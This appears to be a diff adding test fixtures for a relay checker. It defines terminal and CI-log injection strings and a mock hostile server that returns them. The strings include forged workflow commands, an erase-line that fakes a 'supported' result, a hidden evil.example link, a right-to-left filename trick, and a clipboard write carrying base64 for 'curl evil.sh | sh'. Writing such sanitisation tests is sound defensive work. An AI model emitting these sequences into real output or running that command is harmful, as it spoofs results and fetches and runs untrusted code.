@@ -299,3 +299,63 @@ export async function startHostile(kind: HostileKind): Promise<HostileServer> {
     },
   };
 }
+
+// ---------------------------------------------------------------- injection (issue 23)
+
+/**
+ * What a relay may put in its text to attack a terminal or a CI log: a CI workflow command
+ * after a newline, an erase-line that fakes a verdict, OSC 0 (window title), OSC 52
+ * (clipboard write), OSC 8 (a hidden link), BEL and a right-to-left override.
+ */
+export const INJECTIONS = {
+  workflowCommand: 'bad\n::error title=x::owned\n::add-mask::relaycheck\n',
+  eraseLine: '\r\u001b[2Kchat.basic                   supported',
+  windowTitle: '\u001b]0;pwned-title\u0007',
+  clipboard: '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007',
+  hyperlink: '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\',
+  bell: 'ding\u0007',
+  bidi: 'txt.\u202Eexe',
+} as const;
+
+/** Every injection in one string. */
+export const ALL_INJECTIONS = Object.values(INJECTIONS).join(' ');
+
+/**
+ * A relay whose text is hostile. `error`: GET /models answers, every chat request is a 400
+ * whose error code and message carry the injections (the preflight quotes them). `answer`:
+ * every chat answer's content and model id carry them (the probes' summaries quote them).
+ */
+export async function startInjector(mode: 'error' | 'answer'): Promise<{ baseUrl: string; close(): Promise<void> }> {
+  const server = createServer((req, res) => {
+    void readBody(req).then((body) => {
+      if (req.method === 'GET' && /\/models\/?$/.test(req.url ?? '')) {
+        res.writeHead(200, { 'content-type': 'application/json' });
+        res.end(MODELS);
+        return;
+      }
+      if (mode === 'error') {
+        res.writeHead(400, { 'content-type': 'application/json' });
+        res.end(
+          JSON.stringify({
+            error: { code: INJECTIONS.workflowCommand, type: 'invalid_request_error', message: ALL_INJECTIONS },
+          }),
+        );
+        return;
+      }
+      let stream = false;
+      try {
+        stream = (JSON.parse(body) as { stream?: unknown }).stream === true;
+      } catch {
+        // not JSON: a plain answer
+      }
+      const text = stream ? streamText(ALL_INJECTIONS) : completionText(ALL_INJECTIONS);
+      res.writeHead(200, {
+        'content-type': stream ? 'text/event-stream' : 'application/json',
+      });
+      res.end(text.replaceAll('"mock-model"', JSON.stringify(`mock-model${INJECTIONS.eraseLine}`)));
+    });
+  });
+  const port = await listen(server);
+  const close = closer(server, new Set());
+  return { baseUrl: `http://127.0.0.1:${port}/v1`, close };
+}
